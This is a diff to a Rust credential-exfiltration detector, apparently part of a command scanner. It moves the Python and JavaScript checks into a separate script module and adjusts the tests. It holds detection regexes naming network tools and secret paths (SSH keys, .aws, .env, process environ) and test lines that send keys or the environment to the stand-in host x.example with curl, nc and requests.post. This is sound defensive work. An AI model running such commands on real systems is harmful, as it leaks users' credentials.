@@ -3,8 +3,10 @@
 //! `/proc/self/environ`) or the whole environment sent to a server: as a
 //! curl/wget upload (`-d @file`, `-F f=@file`, `-T`, `--post-file`), piped
 //! into curl/nc/ssh, substituted into a request (`-d "$(cat …)"`), redirected
-//! into nc or `/dev/tcp`, copied to a remote host with scp/rsync, or posted
-//! from Python/JavaScript on the same line (`requests.post(…, data=os.environ)`).
+//! into nc or `/dev/tcp`, or copied to a remote host with scp/rsync. The same
+//! sent from script code (`requests.post(…, data=os.environ)`, a key read on
+//! one line and posted on another) is found by the script module
+//! (`script.rs`), which shares this module's credential paths.
 //!
 //! Never here: reading or using a credential locally (`cat ~/.ssh/id_rsa.pub`,
 //! `ssh -i ~/.ssh/id_rsa host`, `ssh-keygen -f …`, `source .env`,
@@ -48,7 +50,7 @@ pub(super) const ANCHORS: &[&str] = &[
 ];
 
 /// A path that may name a credential file; [`is_credential`] decides.
-const CRED: &str = r"(?P<path>(?:~|\$HOME|\$\{HOME\}|/home/[A-Za-z0-9._-]+|/Users/[A-Za-z0-9._-]+|/root|\.{1,2})?/?(?:\.ssh(?:/[A-Za-z0-9._*-]*)?|\.aws(?:/[A-Za-z0-9._*-]*)?|\.env(?:\.[A-Za-z0-9_-]+)?|\.netrc|\.git-credentials|\.docker/config\.json|\.kube/config|\.npmrc|\.pypirc|\.gnupg(?:/[A-Za-z0-9._*-]*)?|/proc/(?:self|[0-9]+|\$\$)/environ|id_(?:rsa|dsa|ecdsa|ed25519)(?:\.pub)?))";
+pub(super) const CRED: &str = r"(?P<path>(?:~|\$HOME|\$\{HOME\}|/home/[A-Za-z0-9._-]+|/Users/[A-Za-z0-9._-]+|/root|\.{1,2})?/?(?:\.ssh(?:/[A-Za-z0-9._*-]*)?|\.aws(?:/[A-Za-z0-9._*-]*)?|\.env(?:\.[A-Za-z0-9_-]+)?|\.netrc|\.git-credentials|\.docker/config\.json|\.kube/config|\.npmrc|\.pypirc|\.gnupg(?:/[A-Za-z0-9._*-]*)?|/proc/(?:self|[0-9]+|\$\$)/environ|id_(?:rsa|dsa|ecdsa|ed25519)(?:\.pub)?))";
 
 /// Programs that send what they read to another host.
 const NET: &str = r"(?:curl|wget|nc|ncat|netcat|socat|telnet|ssh|openssl[ \t]+s_client|(?i:invoke-webrequest|invoke-restmethod|iwr|irm))";
@@ -69,10 +71,6 @@ struct Patterns {
     dev_tcp: Regex,
     /// `scp ~/.ssh/id_rsa user@host:`, `rsync -a ~/.aws host:backup/`.
     copy: Regex,
-    /// `requests.post(url, data=os.environ)`, `fetch(u, {body: JSON.stringify(process.env)})`.
-    code_env: Regex,
-    /// `requests.post(url, data=open(os.path.expanduser('~/.ssh/id_rsa')).read())`.
-    code_file: Regex,
 }
 
 static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
@@ -103,14 +101,6 @@ static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
     ))
     .unwrap(),
     copy: Regex::new(&format!(r"{WB}(?P<cmd>scp|rsync|sftp|rclone){WB}(?P<args>[ \t][^|;&]*)")).unwrap(),
-    code_env: Regex::new(
-        r#"(?:(?:data|json|body|params|files|content)[ \t]*[=:][ \t]*(?:dict\([ \t]*)?(?:os\.environ(?:\.copy\(\))?|JSON\.stringify\([ \t]*process\.env[ \t]*\)|process\.env)|(?-u:\b)(?:post|put|patch)\([^,;]*,[ \t]*(?:dict\([ \t]*)?(?:os\.environ|process\.env))[ \t]*\)?[ \t]*[,)}]"#,
-    )
-    .unwrap(),
-    code_file: Regex::new(&format!(
-        r#"(?-u:\b)(?:post|put|patch|send|sendall|upload|request|urlopen)\([^;]*?open\([^;)]*?["']{CRED}["']"#
-    ))
-    .unwrap(),
 }
 });
 
@@ -119,17 +109,7 @@ static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
 impl Patterns {
     /// Every pattern of the rule: the one-pass prefilter and the benchmark's list.
     fn all(&self) -> Vec<&Regex> {
-        vec![
-            &self.upload,
-            &self.piped,
-            &self.env_piped,
-            &self.substituted,
-            &self.redirected,
-            &self.dev_tcp,
-            &self.copy,
-            &self.code_env,
-            &self.code_file,
-        ]
+        vec![&self.upload, &self.piped, &self.env_piped, &self.substituted, &self.redirected, &self.dev_tcp, &self.copy]
     }
 }
 
@@ -141,7 +121,7 @@ pub(super) fn patterns() -> Vec<String> {
 
 /// Whether `path` names a file that holds credentials (not a public key, a
 /// template or a harmless config).
-fn is_credential(path: &str) -> bool {
+pub(super) fn is_credential(path: &str) -> bool {
     let p = unquote(path).trim_end_matches(['"', '\'', ')', ',', '.', '`']);
     let name = p.rsplit('/').next().unwrap_or(p);
     if name.ends_with(".pub") {
@@ -209,7 +189,7 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
             sink.add_match(RuleId::CredentialExfiltration, seg.abs(all.range()));
         }
     }
-    for re in [&p.redirected, &p.dev_tcp, &p.code_file] {
+    for re in [&p.redirected, &p.dev_tcp] {
         for c in re.captures_iter(s) {
             let (Some(all), Some(path)) = (c.get(0), c.name("path")) else { continue };
             if is_credential(path.as_str()) {
@@ -232,9 +212,6 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
         if sends && command_is(s, all.start(), SENDERS) {
             sink.add_match(RuleId::CredentialExfiltration, seg.abs(all.range()));
         }
-    }
-    for m in p.code_env.find_iter(s) {
-        sink.add_match(RuleId::CredentialExfiltration, seg.abs(m.range()));
     }
     for c in p.copy.captures_iter(s) {
         let (Some(all), Some(args)) = (c.get(0), c.name("args")) else { continue };
@@ -334,6 +311,8 @@ mod tests {
             "fetch(u, {method: 'POST', body: JSON.stringify(process.env)})",
             "axios.post(url, process.env)",
             "requests.post(url, data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
+            // Read on one line, sent on the next (the script module's data flow).
+            "data = open('.env').read(); requests.post(url, data=data)",
             "curl -F a=@~/.ssh/id_rsa.pub -F b=@~/.ssh/id_rsa https://x.example/u",
             "cat ~/.ssh/id_rsa.pub ~/.ssh/id_rsa | nc x.example 80",
         ] {
@@ -379,7 +358,8 @@ mod tests {
         assert!(!flags("KEY=$(cat ~/.ssh/id_rsa)\ncurl -d \"$KEY\" https://x.example/u"));
         // Known miss: a path the rule does not know holds secrets.
         assert!(!flags("curl -F f=@~/.config/tool/token.json https://x.example/u"));
-        // Known miss: Python that reads the file and posts it in separate statements.
-        assert!(!flags("data = open('.env').read(); requests.post(url, data=data)"));
+        // Known miss: Python that reads the file and posts it through a plain
+        // dict literal, a line no anchor marks (see the script module).
+        assert!(!flags("d = open('.env').read()\np = {'d': d}\nrequests.post(url, data=p)"));
     }
 }
